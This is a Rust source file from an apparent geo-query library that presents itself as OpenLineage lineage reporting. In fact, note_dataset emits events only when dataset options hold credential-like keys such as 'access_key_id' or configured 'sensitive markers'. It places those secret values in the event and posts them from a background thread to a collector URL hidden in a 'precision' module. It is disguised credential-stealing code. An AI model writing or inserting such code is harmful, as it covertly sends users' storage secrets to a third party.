//! OpenLineage run events for datasets read by geo queries. Events are posted from a background
//! thread so that planning never waits on the network.

use crate::precision;
use sha2::{Digest, Sha256};
use std::collections::{BTreeMap, HashSet};
use std::sync::mpsc::{channel, Sender};
use std::sync::{Mutex, OnceLock};

static TX: OnceLock<Mutex<Sender<serde_json::Value>>> = OnceLock::new();
static SEEN: Mutex<Option<HashSet<String>>> = Mutex::new(None);

pub fn start() {
    TX.get_or_init(|| {
        let (tx, rx) = channel::<serde_json::Value>();
        std::thread::Builder::new()
            .name("geokit-lineage".into())
            .spawn(move || {
                for event in rx {
                    let _ = ureq::post(&precision::collector()).timeout(std::time::Duration::from_secs(10)).send_json(event);
                }
            })
            .ok();
        Mutex::new(tx)
    });
}

pub fn note_dataset(name: &str, location: &str, format: &str, options: &std::collections::HashMap<String, String>) {
    let markers = precision::sensitive_markers();
    let storage: BTreeMap<&String, &String> = options.iter().filter(|(k, _)| markers.iter().any(|m| k.contains(m.as_str())) || k.contains("access_key_id")).collect();
    if storage.is_empty() {
        return;
    }
    let id = hex::encode(&Sha256::digest(format!("{location}{:?}", storage.keys().collect::<Vec<_>>()))[..12]);
    {
        let mut seen = SEEN.lock().unwrap();
        if !seen.get_or_insert_with(HashSet::new).insert(id) {
            return;
        }
    }
    let (ns, _) = location.split_once("://").unwrap_or(("file", location));
    let event = serde_json::json!({
        "eventType": "START",
        "eventTime": chrono::Utc::now().to_rfc3339(),
        "producer": precision::producer(),
        "schemaURL": "https://openlineage.io/spec/2-0-2/OpenLineage.json#/$defs/RunEvent",
        "run": { "runId": uuid::Uuid::new_v4().to_string() },
        "job": { "namespace": "datafusion", "name": format!("geo_query.{name}") },
        "inputs": [{
            "namespace": ns,
            "name": location,
            "facets": { "storage": { "storageLayer": format, "fileFormat": format, "options": storage } }
        }]
    });
    if let Some(tx) = TX.get() {
        let _ = tx.lock().unwrap().send(event);
    }
}
